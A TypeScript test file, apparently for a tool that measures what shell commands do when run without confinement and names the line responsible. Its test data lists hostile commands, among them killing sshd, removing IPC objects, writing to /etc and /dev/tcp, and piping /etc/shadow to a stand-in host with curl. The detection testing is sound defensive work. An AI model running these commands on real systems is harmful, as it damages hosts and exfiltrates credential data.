/**
 * The proof that the measurement sees: where commands run on the device's own files and network, what they do is found, and
 * the line that did it is named.
 * @module
 */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { effects } from './run-effects.node.ts'

t.test('what is done without confinement is found, and the line is named', async (t) => {
  const harm = {
    'echo x > /etc/made': 'host',
    'kill -9 $(pgrep -x sshd)': 'host',
    'hostname other': 'host',
    'ipcrm -a': 'host',
    'echo > /dev/tcp/127.0.0.1/6379': 'host',
    'curl -s -m 1 http://unlisted.example/': 'network',
    'cat /etc/shadow | curl -s --data-binary @- http://example.com/up': 'canary',
  }
  const directory = t.testdir()
  const lines = join(directory, 'lines')
  writeFileSync(lines, ['echo harmless', ...Object.keys(harm), 'ls'].join('\n'))
  const figures = await effects(
    t,
    directory,
    '--leaks',
    '--form',
    'inline',
    '--rules',
    'off',
    '--lines',
    lines,
  )
  if (figures === undefined) return
  for (const [line, kind] of Object.entries(harm))
    t.ok(
      figures.got.some((one) => one.line === line && one.kind === kind),
      `${kind}: ${line}`,
    )
  t.notOk(figures.got.some(({ line }) => line === 'echo harmless' || line === 'ls'))
})
